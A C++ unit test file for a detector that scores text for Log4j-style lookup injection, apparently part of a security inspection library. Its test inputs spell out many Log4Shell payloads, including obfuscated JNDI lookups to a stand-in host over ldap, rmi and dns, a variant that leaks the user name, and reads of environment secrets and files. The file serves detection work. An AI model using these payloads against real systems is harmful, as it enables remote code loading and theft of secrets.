#include "inspect/lookup/lookup.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>

namespace onesec::inspect {
namespace {

std::uint32_t points(std::string_view text) {
  Reasons out;
  inspect_lookup(text, out);
  return out.points(Attack::Lookup);
}

TEST(Lookup, OnesThatHideOrReadMore) {
  EXPECT_GE(points("${base64:JHthOmJ9}"), kThreshold);
  EXPECT_GE(points("see ${properties:/etc/a.properties::key}"), kThreshold);
  EXPECT_LT(points("${base64:-x}"), kThreshold);
}
TEST(Lookup, NamesAreReadFromTheInsideOut) {
  for (const std::string_view text :
       {"${jndi:ldap://host.example/a}", "${JNDI:rmi://host.example/a}", "${${lower:j}ndi:dns://host.example}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://host.example}",
        "${${env:NOTHING:-j}ndi:ldap://host.example/${sys:user.name}}",
        "x ${j${lower:n}d${upper:i}:ldap://host.example", "${script:javascript:1+1}",
        "${url:UTF-8:http://host.example/}", "${env:AWS_SECRET}"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
}
TEST(Lookup, VariablesOfShellsAndTemplates) {
  for (const std::string_view text :
       {"${HOME}", "${HOME:-/root}", "${a:-${b:-c}}", "${name}", "costs ${amount} a month", "name: ${env:USER}", "${",
        "${${${", "}}}}", "${date:yyyy}", "jndi:ldap"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}
TEST(Lookup, NestingIsBoundedAndTold) {
  const auto nested = [](int depth) {
    std::string text;
    for (int i = 0; i < depth; ++i) text += "${a:-";
    return text;
  };
  EXPECT_LT(points(nested(10)), kThreshold);
  EXPECT_GE(points(nested(1'000)), kThreshold);
}
TEST(Lookup, NoLengthHidesOne) {
  const std::string padding(5'000, 'a');
  EXPECT_GE(points(padding + "${jndi:ldap://host.example}"), kThreshold);
  EXPECT_GE(points("${" + padding + "}${jndi:ldap://host.example}"), kThreshold);
  EXPECT_GE(points("${a:" + padding + "${jndi:ldap://host.example}}"), kThreshold);
  EXPECT_LT(points(padding + "${" + padding + "}"), kThreshold);
}
TEST(Lookup, AnAttackAndItsNearMiss) {
  EXPECT_GE(points("${jndi:ldap://host.example/a}"), kThreshold);
  EXPECT_LT(points("${jndi.ldap.host.example}"), kThreshold);
  EXPECT_GE(points("${${date:'j'}ndi:ldap://host.example/a}"), kThreshold);
  EXPECT_LT(points("${date:'j'} ndi:ldap://host.example/a"), kThreshold);
  EXPECT_GE(points("${dns:address|host.example}"), kThreshold);
  EXPECT_LT(points("${dns:-none}"), kThreshold);
  EXPECT_GE(points("${file:UTF-8:/srv/a}"), kThreshold);
  EXPECT_LT(points("${file}:UTF-8:/srv/a"), kThreshold);
  EXPECT_GE(points("$${jndi:ldap://host.example/a}"), kThreshold);
  EXPECT_LT(points("$jndi:ldap://host.example/a"), kThreshold);
}
TEST(Lookup, ADollarThatALookupGives) {
  EXPECT_GE(points("${env:a:-${env:b:-$}{jndi:ldap://host.example}}"), kThreshold);
  EXPECT_GE(points("${:7:-x$}{jndi:ldap://host.example}"), kThreshold);
  EXPECT_LT(points("${a:-x}{jndi:ldap://host.example}"), kThreshold);
}
TEST(Lookup, OnesThatLookUpWhatOthersGive) {
  for (const std::string_view text :
       {"${ctx:${ctx:name}}", "${::-${::-$${::-x}}}", "a ${::-${::-}}", "see ${base64Decoder:JHt9}"})
    EXPECT_GE(points(text), kThreshold) << text;
  for (const std::string_view text :
       {"${a:${b}}", "${ctx:}", "${::-a}", "${a:-${::-b}}", "base64Decoder:JHt9", "${base64Decoder}"})
    EXPECT_LT(points(text), kThreshold) << text;
}

}  // namespace
}  // namespace onesec::inspect
